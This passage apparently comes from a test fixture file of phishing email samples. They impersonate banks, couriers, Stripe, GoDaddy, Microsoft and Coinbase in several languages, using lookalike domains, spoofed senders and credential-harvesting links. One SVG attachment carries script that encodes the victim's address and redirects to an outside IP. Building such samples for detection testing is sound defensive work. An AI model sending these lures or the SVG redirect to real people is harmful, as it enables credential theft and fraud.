    inline: [{ cid: 'bonus-qr', name: 'statement-qr.png', content: qrLike('peakform-bonus-2025') }],
  },
  {
    slug: 'ing-rekening-geblokkeerd-nl',
    cat: 'phishing',
    lang: 'nl',
    date: '2025-06-30 19:44:11 +0200',
    from: 'ING Bank <klantenservice@ing-beveiliging-online.com>',
    to: 'm.jansen@jansen-accountants.example',
    subject: 'Uw betaalpas wordt geblokkeerd – vernieuw uw gegevens',
    html: `<div style="font-family:Arial;font-size:15px;max-width:520px">
<p style="color:#ff6200;font-size:24px"><b>ING</b> &#129409;</p>
<p>Geachte klant,</p>
<p>Vanaf 1 juli worden alle betaalpassen vervangen door een nieuwe pas met verbeterde beveiliging. Uit onze administratie blijkt dat u uw gegevens nog niet heeft bijgewerkt.</p>
<p>Als u dit niet vóór <b>2 juli</b> doet, wordt uw huidige betaalpas geblokkeerd.</p>
<p><a href="https://ing-beveiliging-online.com/nl/particulier/pasvervanging?id=55019" style="background:#ff6200;color:#fff;padding:11px 22px;text-decoration:none">Gegevens bijwerken</a></p>
<p>Met vriendelijke groet,<br>ING Klantenservice</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'sparkasse-pushtan-de',
    cat: 'phishing',
    lang: 'de',
    date: '2025-08-19 07:55:30 +0200',
    from: 'Sparkasse <service@sparkasse-pushtan-verfahren.de.com>',
    to: 't.albrecht@albrecht-metallbau.example',
    subject: 'Wichtig: Aktualisierung Ihres pushTAN-Verfahrens erforderlich',
    text: `Sehr geehrte Kundin, sehr geehrter Kunde,

aufgrund der neuen EU-Zahlungsdiensterichtlinie müssen alle Kunden ihr pushTAN-Verfahren
bis zum 25.08.2025 neu registrieren. Nach Ablauf der Frist wird Ihr Online-Banking-Zugang
aus Sicherheitsgründen gesperrt.

Die Registrierung dauert nur wenige Minuten:
https://sparkasse-pushtan-verfahren.de.com/registrierung?kd=55019

Halten Sie dazu bitte Ihre Anmeldedaten und Ihre Sparkassen-Card bereit.

Mit freundlichen Grüßen
Ihre Sparkasse
`,
  },
  {
    slug: 'bbva-verificacion-es',
    cat: 'phishing',
    lang: 'es',
    date: '2025-02-13 22:30:06 +0100',
    from: 'BBVA <avisos@bbva-seguridad-clientes.net>',
    to: 'compras@talleres-beltran.example',
    subject: 'Aviso: hemos detectado un acceso no autorizado a su cuenta',
    text: `Estimado cliente:

Hemos detectado un intento de acceso a su banca online desde un dispositivo no
reconocido. Por su seguridad, hemos restringido temporalmente las operaciones.

Para restablecer el acceso, verifique su identidad en el siguiente enlace:
https://bbva-seguridad-clientes.net/es/verificacion?c=55019

Si no completa la verificación en 24 horas, su cuenta quedará bloqueada.

Atentamente,
Servicio de Seguridad BBVA
`,
  },
  {
    slug: 'poste-italiane-pacco-it',
    cat: 'phishing',
    lang: 'it',
    date: '2025-10-24 12:35:41 +0200',
    from: 'Poste Italiane <notifiche@poste-spedizioni-italia.com>',
    to: 'acquisti@studio-colombo.example',
    subject: 'Il tuo pacco è in giacenza: conferma l\'indirizzo di consegna',
    html: `<div style="font-family:Arial;font-size:15px;max-width:500px">
<div style="background:#ffcc00;padding:12px;font-weight:bold;color:#003087">Poste Italiane</div>
<p>Gentile cliente,</p>
<p>il tuo pacco <b>RR555019224IT</b> non è stato consegnato perché l'indirizzo risulta incompleto. Il pacco è in giacenza presso il centro di smistamento.</p>
<p>Per programmare una nuova consegna è necessario confermare l'indirizzo e pagare le spese di giacenza di <b>1,49 €</b>.</p>
<p><a href="https://poste-spedizioni-italia.com/giacenza?id=RR555019224IT">Conferma consegna</a></p>
<p>In assenza di conferma entro 48 ore il pacco sarà restituito al mittente.</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'usps-redelivery-sms-style',
    cat: 'phishing',
    date: '2025-07-11 15:03:58 -0400',
    from: 'USPS <usps-notice@redelivery-usps-track.top>',
    to: 'rokafor@summit-hvac.example',
    subject: 'USPS: package awaiting redelivery',
    eol: 'lf',
    text: `USPS: Your package has arrived at the warehouse but could not be delivered due to an incomplete address. Please update your address within 12 hours: https://redelivery-usps-track.top/us

(Reply Y, then reopen this message to activate the link)
`,
  },
  {
    slug: 'svg-attachment-script-redirect',
    cat: 'phishing',
    date: '2025-11-05 09:41:12 +0000',
    from: 'Voice & Fax Services <fax@efax-inbound-docs.example>',
    to: 'itdesk@lakeshore-insurance.example',
    subject: 'Fax received: 3 pages from +1 555-0104',
    text: `You have received a 3-page fax.

  Sender:  +1 555-0104
  Pages:   3
  Date:    11/05/2025 09:40

Open the attached image to view the document.
`,
    att: [
      {
        name: 'Fax_0311_3pages.svg',
        type: 'image/svg+xml',
        content: Buffer.from(
          `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400">
<rect width="600" height="400" fill="#f4f4f4"/>
<text x="40" y="200" font-family="Arial" font-size="22">Loading fax document...</text>
<script type="text/javascript"><![CDATA[
var t = "itdesk@lakeshore-insurance.example";
window.location.href = "https://198.51.100.92/fax/view?u=" + btoa(t);
]]></script>
</svg>
`,
          'utf8',
        ),
      },
    ],
  },
  {
    slug: 'pdf-attachment-link-only',
    cat: 'phishing',
    date: '2025-05-21 14:22:50 +0000',
    from: 'Tallyworks Accounts <accounts@tallyworks-billing.example>',
    to: 'valvarez@alvarez-construction.example',
    subject: 'Outstanding balance - statement attached',
    text: `Hello,

Please see the attached statement. Your account has an outstanding balance that must be
settled to avoid interruption of service.

Regards,
Accounts Department
`,
    att: [
      {
        name: 'Statement_May2025.pdf',
        type: 'application/pdf',
        content: pdf('Account statement - secure document', [], {
          pages: [
            {
              title: 'This document is protected',
              lines: ['You have received a secure PDF document.', 'To view the content, click "View Document" below and sign in with your email.', '', '[ VIEW DOCUMENT ]'],
              links: [{ rect: [56, 660, 200, 680], uri: 'https://tallyworks-billing.example.login-secure-docs.com/view?d=stmt-0525' }],
            },
          ],
        }),
      },
    ],
  },
  {
    slug: 'calendar-invite-phish-link',
    cat: 'phishing',
    date: '2025-09-09 08:12:36 -0700',
    from: 'Payments Approval <calendar@ap-approvals-portal.example>',
    to: 'ap@delta-conveyor.example',
    subject: 'Invitation: Vendor payment approval - review before 12:00',
    text: `You have been invited to the following event.

Vendor payment approval - review before 12:00
Tuesday 9 September 2025, 11:00 - 11:30 (Pacific Time)

Review the payment batch before the meeting:
https://ap-approvals-portal.example.sharepoint-review.live/batch/0909?u=ap

Going? Yes - Maybe - No
`,
    att: [
      {
        name: 'invite.ics',
        type: 'text/calendar; method=REQUEST',
        asText: true,
        content: ics({
          uid: 'ap-approval-0909@ap-approvals-portal.example',
          start: '20250909T110000',
          end: '20250909T113000',
          tz: 'America/Los_Angeles',
          summary: 'Vendor payment approval - review before 12:00',
          description: 'Sign in to review the payment batch: https://ap-approvals-portal.example.sharepoint-review.live/batch/0909?u=ap',
          organizer: { name: 'Payments Approval', email: 'calendar@ap-approvals-portal.example' },
          attendees: [{ name: 'Accounts Payable', email: 'ap@delta-conveyor.example' }],
        }),
      },
    ],
  },
  {
    slug: 'stripe-payouts-paused',
    cat: 'phishing',
    date: '2025-04-15 16:16:16 +0000',
    from: 'Stripe <notifications@stripe-payouts-verify.com>',
    to: 'maya@fernhill-digital.example',
    subject: 'Payouts paused: additional verification needed for Fernhill Digital',
    html: `<div style="font-family:-apple-system,Arial;font-size:15px;max-width:520px;color:#32325d">
<p style="color:#635bff;font-size:22px"><b>stripe</b></p>
<p>Hi Maya,</p>
<p>Payouts for <b>Fernhill Digital</b> have been paused because we need to verify some information about your business. Your pending balance of <b>$7,412.80</b> will be held until verification is complete.</p>
<p><a href="https://dashboard.stripe-payouts-verify.com/account/onboarding?acct=acct_55019" style="background:#635bff;color:#fff;padding:10px 20px;border-radius:6px;text-decoration:none">Update information</a></p>
<p>If we do not receive the information within 3 days, your account may be closed.</p>
<p>&mdash; The Stripe team</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'domain-renewal-registrar-phish',
    cat: 'phishing',
    date: '2026-01-08 10:40:27 +0000',
    from: 'GoDaddy Renewals <renewals@godaddy-renewal-center.net>',
    to: 'admin@ironleaf-mfg.example',
    subject: 'FINAL NOTICE: ironleaf-mfg.example expires in 2 days - auto-renew failed',
    text: `Domain expiration notice

Your domain ironleaf-mfg.example will expire on January 10, 2026. Your automatic
renewal failed because the card on file was declined.

If the domain expires, your website and email will stop working and the domain may be
registered by someone else.

Renew now (1 year, $21.99):
https://godaddy-renewal-center.net/renew?domain=ironleaf-mfg.example&ref=GD55019

GoDaddy Operating Company, LLC
`,
  },
  {
    slug: 'teams-unread-messages',
    cat: 'phishing',
    date: '2025-02-26 13:04:44 +0000',
    from: 'Microsoft Teams <noreply@teams-notify-messages.com>',
    to: 'samira.haddad@hartwell-dental.example',
    subject: 'You have 4 unread messages in Teams',
    html: `<div style="font-family:Segoe UI,Arial;font-size:14px;max-width:500px">
<p style="color:#464eb8;font-size:18px"><b>Microsoft Teams</b></p>
<p>Your teammates are trying to reach you.</p>
<p><b>Owen Blake</b>: "Samira, can you check the payroll file before 3? Need your approval today"</p>
<p><b>HR Team</b>: "Updated holiday policy - please acknowledge"</p>
<p><a href="https://teams-notify-messages.com/l/chat/0/0?users=samira.haddad%40hartwell-dental.example" style="background:#464eb8;color:#fff;padding:9px 20px;text-decoration:none">Reply in Teams</a></p>
<p style="font-size:11px;color:#888">You are receiving this email because you have unread messages. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'hr-handbook-lookalike-domain',
    cat: 'phishing',
    date: '2025-11-13 08:31:19 -0500',
    from: 'Hartwell HR <hr@hartwell-dentaI.example>',
    to: 'Hartwell Staff <staff@hartwell-dental.example>',
    subject: 'Updated employee handbook 2026 - acknowledgement required by Friday',
    text: `Hi all,

We've updated the employee handbook for 2026, including the new PTO accrual rules and
the remote-work policy. All staff must read and acknowledge the handbook by Friday,
November 14.

Please sign in with your work Microsoft account to review and e-sign:
https://hartwelldental-my.sharepoint.com.handbook-ack.live/personal/hr/handbook2026

Thanks,
Human Resources
Hartwell Dental Group
`,
  },
  {
    slug: 'coinbase-withdrawal-punycode',
    cat: 'phishing',
    date: '2025-03-31 03:17:40 +0000',
    from: 'Coinbase <no-reply@coinbase-security-alerts.com>',
    to: 'priya@kestrel-analytics.example',
    subject: 'Withdrawal request: 0.8421 BTC to bc1q...7xk2',
    html: `<div style="font-family:Arial;font-size:15px;max-width:480px">
<p style="color:#0052ff;font-size:22px"><b>coinbase</b></p>
<p>A withdrawal of <b>0.8421 BTC</b> (&asymp; $69,480.11) was requested from your account.</p>
<p>Destination: bc1q8m3k0x5550p2r7t4v9y1a3c5e7g9j2l4n7xk2<br>IP address: 203.0.113.201 (Moscow, RU)</p>
<p>If you did not make this request, cancel it immediately and secure your account:</p>
<p><a href="https://${require('node:url').domainToASCII('coinbasé.com')}/security/cancel-withdrawal?id=55019" style="background:#0052ff;color:#fff;padding:10px 22px;border-radius:20px;text-decoration:none">Cancel withdrawal</a></p>
<p style="font-size:11px;color:#888">Coinbase, Inc. &middot; 248 3rd St #434, Oakland, CA 94607</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'microsoft-spoofed-shared-onedrive',
    cat: 'phishing',
    date: '2025-06-25 10:09:21 +0000',
    from: 'OneDrive <no-reply@microsoft.com>',
    returnPath: 'nobody@vps-2281.example',
    midDomain: 'vps-2281.example',
    to: 'j.hofmann@hofmann-maschinenbau.example',
    subject: 'Birgit Lenz hat "Bestellung_Juni_2025.xlsx" für Sie freigegeben',
    lang: 'de',
    html: `<div style="font-family:Segoe UI,Arial;font-size:14px;max-width:480px">
<p style="font-size:20px">Birgit Lenz hat eine Datei für Sie freigegeben</p>
<p>&#128196; <b>Bestellung_Juni_2025.xlsx</b></p>
<p>"Hallo Jonas, anbei die Bestellung wie besprochen. Bitte bis morgen prüfen."</p>
<p><a href="https://storage.googleapis.com/onedrive-share-de-55019/index.html#j.hofmann@hofmann-maschinenbau.example" style="background:#0078d4;color:#fff;padding:8px 24px;text-decoration:none">Öffnen</a></p>
<p style="font-size:11px;color:#666">Microsoft respektiert Ihre Privatsphäre. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
]);
